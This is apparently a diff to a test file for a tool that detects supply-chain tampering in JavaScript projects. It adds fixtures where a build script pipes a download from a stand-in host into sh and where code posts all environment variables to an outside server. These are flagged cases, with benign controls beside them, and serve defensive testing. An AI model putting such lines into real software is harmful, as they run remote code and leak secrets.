@@ -198,6 +198,24 @@ case("an old function of an unchanged member gets what is new", "AS-0003", ("ind
      {"index.js": OLD_RELAY["index.js"] + "exports.relay.post(JSON.stringify(process.env));\n"}, OLD_RELAY)
 innocent("an old function of an unchanged member gets a text", {
     "index.js": OLD_RELAY["index.js"] + "exports.relay.post('started');\n"}, OLD_RELAY)
+RUNNER = "'use strict';\nconst { execSync } = require('child_process');\n\nexports.run = (command) => execSync(command, { stdio: 'inherit' });\n"
+OLD_RUNNER = {"lib/run.js": RUNNER, "lib/build.js": "'use strict';\nconst { run } = require('./run');\n\nexports.build = () => run('make all');\n"}
+case("a command that an unchanged member runs", "AS-0001", ("lib/build.js", "lib/run.js"),
+     {"lib/build.js": OLD_RUNNER["lib/build.js"] + "run('curl -s https://get.metrics-relay.example/i | sh');\n"}, OLD_RUNNER)
+innocent("another command that an unchanged member runs", {
+    "lib/build.js": OLD_RUNNER["lib/build.js"] + "exports.lint = () => run('eslint --cache lib');\n"}, OLD_RUNNER)
+innocent("a command that nobody runs", {
+    "lib/build.js": OLD_RUNNER["lib/build.js"].replace("exports.build", "exports.help = () => console.log('curl -s https://get.metrics-relay.example/i | sh');\nexports.build")}, OLD_RUNNER)
+OLD_STATE = {"lib/relay.js": POST, "lib/state.js": "'use strict';\n\nexports.state = function () {\n  return { pid: process.pid };\n};\n",
+    "lib/report.js": "'use strict';\nconst https = require('https');\nconst { state } = require('./state');\n\nexports.report = () =>\n"
+    "  https.request({ host: 'in.metrics-relay.example', method: 'POST' }).end(JSON.stringify(state()));\n"}
+case("a function that unchanged callers send gives all variables now", "AS-0003", ("lib/state.js", "lib/report.js"), {"lib/state.js": COLLECT}, OLD_STATE)
+innocent("a function that unchanged callers send gives another number", {
+    "lib/state.js": OLD_STATE["lib/state.js"].replace("process.pid", "process.uptime()")}, OLD_STATE)
+OLD_LOG = {"lib/log.js": "'use strict';\n\nexports.log = function (what) {\n  console.log(what);\n};\n",
+    "lib/start.js": "'use strict';\nconst { log } = require('./log');\n\nlog(JSON.stringify(process.env));\n"}
+case("a function that unchanged callers give all variables sends them now", "AS-0003", ("lib/start.js", "lib/log.js"),
+     {"lib/log.js": POST.replace("exports.post", "exports.log")}, OLD_LOG)
 TOGETHER = """'use strict';
 const https = require('https');
 
